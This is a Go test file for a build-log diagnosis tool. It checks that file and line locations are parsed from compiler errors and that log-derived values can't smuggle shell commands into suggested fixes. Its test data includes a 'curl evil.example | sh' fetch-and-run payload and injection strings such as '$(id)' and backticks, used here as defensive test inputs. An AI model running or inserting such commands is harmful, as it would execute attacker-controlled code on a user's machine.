package diagnose

import (
	"strings"
	"testing"
)

func TestPlaceAndCommand(t *testing.T) {
	set := whole(t)
	for _, tt := range []struct {
		name, log, file string
		line            int
		command         string
	}{
		{"gcc", "g++ -c a.cpp\na.cpp:3:10: fatal error: cuda_runtime.h: No such file or directory", "a.cpp", 3, "g++ -c a.cpp"},
		{"cl", "main.cpp(12): fatal error C1083: Cannot open include file: 'cuda.h': No such file or directory", "main.cpp", 12, ""},
		{"rustc", "   Compiling a v0.1.0\nerror[E0308]: mismatched types\n --> src/main.rs:7:25\n  |\nerror: could not compile `a`", "src/main.rs", 7, ""},
		{"CMake", "$ cmake -S . -B build\nCMake Error at CMakeLists.txt:3 (project):\n  No CMAKE_CUDA_COMPILER could be found.\n", "CMakeLists.txt", 3, "$ cmake -S . -B build"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			a := answer(t, set, tt.log, "")
			if len(a.Findings) == 0 {
				t.Fatal("no finding")
			}
			f := a.Findings[0]
			if f.File != tt.file || f.FileLine != tt.line || f.Command != tt.command {
				t.Errorf("%s: got %s:%d, command %q; want %s:%d, %q", f.ID, f.File, f.FileLine, f.Command, tt.file, tt.line, tt.command)
			}
		})
	}
}

// TestPasteable: what a stranger's log names does not become a command of its own.
func TestPasteable(t *testing.T) {
	for _, tt := range []struct {
		value string
		want  bool
	}{{"a/b.o", true}, {"12.4", true}, {"g++-12", true}, {"a.o; curl evil.example | sh", false}, {"my kernels/a.o", false}, {"$(id)", false}, {"-rf", false}, {"a`b`", false}, {"x\ny", false}} {
		if got := pasteable("ls -l {file}", map[string]string{"file": tt.value}); got != tt.want {
			t.Errorf("pasteable(%q) = %v, want %v", tt.value, got, tt.want)
		}
	}
	a := answer(t, whole(t), "nvlink fatal   : Could not open input file 'a.o; curl evil.example | sh; .o'", "")
	for _, f := range a.Findings {
		for _, s := range f.Next {
			if s.Command != "" && names.MatchString(s.Command) || strings.Contains(s.Command, "evil") {
				t.Errorf("a step runs words of the log: %q", s.Command)
			}
		}
	}
}
